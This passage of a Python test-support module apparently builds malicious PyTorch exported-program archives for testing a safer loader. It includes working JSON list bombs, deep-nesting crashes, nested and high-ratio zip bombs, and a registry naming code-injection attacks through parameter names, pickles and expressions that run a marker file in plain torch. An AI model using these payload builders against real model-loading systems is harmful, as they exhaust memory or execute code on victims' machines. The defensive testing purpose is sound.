        e = node(p, target="torch.ops.aten.expand.default")
        node_input(e, "size")["as_ints"] = [n]
        set_shape(p, e["name"], [n], [0])

    return edit_program(_export("expand"), edit)


# ----------------------------------------------------------------------------- archive and JSON bombs
def _with_json_text(
    data: bytes, placeholder: Json, text: str, fn: Callable[[Program], None], compress: bool = True
) -> bytes:
    """The archive whose program has ``placeholder`` set by ``fn`` and then replaced, in the JSON text, by
    ``text``; the program is written deflated (or stored)."""
    members: dict[str, bytes | Raw] = dict(read_members(data))
    program = json.loads(members[PROGRAM])
    fn(program)
    key = json.dumps(placeholder)
    doc = json.dumps(program)
    assert doc.count(key) == 1
    text_bytes = doc.replace(key, text).encode()
    members[PROGRAM] = deflated(text_bytes) if compress else text_bytes
    return write_members(members, root_of(data))


def json_list_bomb(n_elements: int = 5_000_000, *, compress: bool = True) -> bytes:
    """The CNN's ``conv2d`` ``stride`` argument as a list of ``n_elements`` ones: about ``2 n`` bytes of JSON,
    deflated about 850:1 (``compress=False``: stored, so only an element or size cap can catch it). Plain torch
    spends about 0.9 KB of memory and 15-20 us per element at load (measured at 300,000): the default, a 30 KB
    archive, did not finish loading in 120 s here (about 4 GB expected); the forward pass would then fail."""
    sentinel = "@@list@@"

    def put(p: Program) -> None:
        node_input(node(p, target="torch.ops.aten.conv2d.default"), "stride")["as_ints"] = sentinel

    return _with_json_text(valid(), sentinel, "[" + "1," * (n_elements - 1) + "1]", put, compress)


def deep_json(depth: int = 1000) -> bytes:
    """``graph_module.metadata`` holding a list nested ``depth`` deep (``[[[...]]]``). Plain torch fails at load:
    CPython's ``json.loads`` raises ``RecursionError`` past about 1000 levels (a crash, not a clean refusal)."""
    sentinel = "@@deep@@"

    def put(p: Program) -> None:
        p["graph_module"]["metadata"]["nested"] = sentinel

    return _with_json_text(valid(), sentinel, "[" * depth + "]" * depth, put)


def many_nodes(n: int = 10_000) -> bytes:
    """The MLP with a chain of ``n`` extra nodes after its last one (``relu``, ``add(h, h)`` alternately), the
    output moved to the chain's end: a graph that is large, not hostile in any single node (the program, about
    6 MB of JSON, is deflated to about 1/20). Plain torch loads it (slowly) and runs it."""

    def edit(p: Program) -> None:
        graph = p["graph_module"]["graph"]
        out = graph["outputs"][0]["as_tensor"]
        meta, prev = graph["tensor_values"][out["name"]], out["name"]
        for i in range(n):
            name = f"chain_{i}"
            inputs = [{"name": "self", "arg": tensor(prev), "kind": 1}]
            if i % 2 == 0:
                target = "torch.ops.aten.relu.default"
            else:
                target = "torch.ops.aten.add.Tensor"
                inputs.append({"name": "other", "arg": tensor(prev), "kind": 1})
            graph["nodes"].append(
                {
                    "target": target,
                    "inputs": inputs,
                    "outputs": [{"as_tensor": {"name": name}}],
                    "metadata": {},
                    "is_hop_single_tensor_return": None,
                    "name": name,
                }
            )
            graph["tensor_values"][name] = meta  # shared: json.dumps writes a copy for each
            prev = name
        out["name"] = prev
        p["graph_module"]["signature"]["output_specs"][0]["user_output"]["arg"]["as_tensor"]["name"] = prev

    members: dict[str, bytes | Raw] = dict(read_members(edit_program(valid("mlp"), edit)))
    members[PROGRAM] = deflated(members[PROGRAM])  # type: ignore[arg-type]
    return write_members(members)


def _zip_of(copies: int, name: str, content: bytes) -> bytes:
    """A zip (no root folder) of ``copies`` deflated copies of ``content``."""
    raw = deflated(content)
    return write_members({f"{name}_{i}": raw for i in range(copies)}, root="")


def nested_zip_bomb(levels: int = 3, copies: int = 16, inner: int = 16 << 20) -> bytes:
    """``data/sample_inputs/model.pt`` replaced by a zip of ``copies`` zips of ... (``levels`` deep) of ``inner``
    zero bytes: ``copies ** levels * inner`` bytes (64 GiB by default) if unpacked recursively, about 12 KB in
    the archive (each level is itself deflated). Plain torch fails at load without expanding it
    (``torch.load``'s zip reader refuses members outside a folder); only a reader that unpacks nested zips would
    blow up."""
    blob = write_members({"zeros": deflated_zeros(inner)}, root="")
    for level in range(levels):
        blob = _zip_of(copies, f"level{level}", blob)
    members: dict[str, bytes | Raw] = dict(read_members(valid()))
    members[SAMPLE_INPUTS] = deflated(blob)
    return write_members(members)


def _next_weight_index(members: Mapping[str, object]) -> int:
    used = [int(k.rsplit("_", 1)[1]) for k in members if k.startswith("data/weights/weight_")]
    return max(used, default=-1) + 1


def unreferenced_members(
    total_bytes: int = 600 * 2**20, member_bytes: int = 64 * 2**20, *, compress: bool = True
) -> bytes:
    """Extra ``data/weights/weight_N`` members (zeros, deflated about 1024:1, or stored with ``compress=False``:
    e.g. ``unreferenced_members(4096, compress=False)`` is refused only for being unreferenced) that no table
    references, holding ``total_bytes`` in all: plain torch never reads them (it loads, unlifts and runs); a
    reader that expands every member spends ``total_bytes`` of memory or time. About 600 KB by default."""
    members: dict[str, bytes | Raw] = dict(read_members(valid()))
    first = _next_weight_index(members)
    for i in range(-(-total_bytes // member_bytes)):
        size = min(member_bytes, total_bytes - i * member_bytes)
        members[f"data/weights/weight_{first + i}"] = deflated_zeros(size) if compress else bytes(size)
    return write_members(members)


def huge_ratio_member(size: int = 2**30, member: str | None = None) -> bytes:
    """One member of ``size`` zero bytes (1 GiB by default) deflated at over 1000:1 (about 1 MB): by default an
    extra, unreferenced ``data/weights/weight_N`` (plain torch ignores it); with ``member`` given, that member
    (e.g. ``data/weights/weight_0``: plain torch would then read all of it). Built in about 0.3 s per GiB with
    about ``size / 1000`` bytes of memory."""
    members: dict[str, bytes | Raw] = dict(read_members(valid()))
    members[member or f"data/weights/weight_{_next_weight_index(members)}"] = deflated_zeros(size)
    return write_members(members)


def encrypted_member(member: str = "data/weights/weight_0") -> bytes:
    """``member`` with the zip's "encrypted" flag (general-purpose bit 0) set in its local and central headers,
    its bytes left as they were. :mod:`zipfile` refuses to read it without a password; plain torch's reader
    (miniz) fails at load."""
    members: dict[str, bytes | Raw] = dict(read_members(valid()))
    members[member] = stored(read_members(valid())[member], flags=0x1)
    return write_members(members)


# ----------------------------------------------------------------------------- everything, by name
def _no_marker(fn: Callable[[], bytes]) -> Callable[[Path], bytes]:
    return lambda _marker: fn()


# name -> builder(marker); the code-execution ones create ``marker`` in plain torch where their docstring says so
ATTACKS: dict[str, Callable[[Path], bytes]] = {
    # names torch.fx pastes into generated Python source
    "parameter_name": code_in_parameter_name,
    "parameter_name_forward": functools.partial(code_in_parameter_name, at="forward"),
    "buffer_name": code_in_buffer_name,
    "buffer_name_forward": functools.partial(code_in_buffer_name, at="forward"),
    "constant_name": code_in_constant_name,
    "constant_name_forward": functools.partial(code_in_constant_name, at="forward"),
    "quote_in_name": _no_marker(quote_in_name),
    "node_name": code_in_node_name,
    "input_name": code_in_input_name,
    "placeholder_name": code_in_placeholder_name,
    "forward_arg_name": code_in_forward_arg_name,
    "kwarg_name": code_in_kwarg_name,
    # expressions, targets, pickles
    "sympy_expression": sympy_expression,
    "guards_code": guards_code,
    "graph_target": graph_target,
    "graph_target_os": graph_target_os,
    "target_from_file": _no_marker(lambda: other_target("torch.ops.aten.from_file.default")),
    "target_cond": _no_marker(lambda: other_target("torch.ops.higher_order.cond")),
    "target_eval": _no_marker(lambda: other_target("builtins.eval")),
    "pickled_weight": pickled_weight,
    "pickled_constant": pickled_constant,
    "pickled_sample_inputs": pickled_sample_inputs,
    "opaque_constant": opaque_constant,
    # malformed archives
    "missing_program": _no_marker(missing_program),
    "traversal_member": _no_marker(traversal_member),
    "program_not_json": _no_marker(program_not_json),
    # out-of-bounds views
    "oob_read_reshape_alias": _no_marker(oob_view_read),
    "oob_read_as_strided": _no_marker(lambda: oob_view_read("as_strided")),
    "oob_write_reshape_alias": _no_marker(oob_view_write),
    "oob_write_copy_reshape_alias": _no_marker(lambda: oob_view_write(via="copy_")),
    "oob_write_as_strided": _no_marker(lambda: oob_view_write("as_strided")),
    # real allocations
    "factory_ones": _no_marker(factory_alloc),
    "factory_zeros": _no_marker(lambda: factory_alloc(op="zeros")),
    "out_alloc": _no_marker(out_alloc),
    "resize_alloc": _no_marker(resize_alloc),
    "expand_reduce": _no_marker(expand_reduce),
    "empty_uninit": _no_marker(empty_uninit),
    # archive and JSON bombs
    "json_list_bomb": _no_marker(json_list_bomb),
    "deep_json": _no_marker(deep_json),
    "many_nodes": _no_marker(many_nodes),
    "nested_zip_bomb": _no_marker(nested_zip_bomb),
    "unreferenced_members": _no_marker(unreferenced_members),
    "huge_ratio_member": _no_marker(huge_ratio_member),
    "encrypted_member": _no_marker(encrypted_member),
}

# the builders whose payload creates the marker in plain torch 2.13, and the step that runs it
RUNS_IN_PLAIN_TORCH: dict[str, Literal["load", "module", "forward"]] = {
    "parameter_name": "module",
    "parameter_name_forward": "forward",
    "buffer_name": "module",
    "buffer_name_forward": "forward",
    "constant_name": "module",
    "constant_name_forward": "forward",
    "input_name": "load",
    "placeholder_name": "load",
    "forward_arg_name": "module",
    "kwarg_name": "load",
    "sympy_expression": "load",
    "guards_code": "forward",
    "graph_target": "forward",
    "pickled_weight": "load",
    "pickled_constant": "load",
    "pickled_sample_inputs": "load",
    "opaque_constant": "load",
}
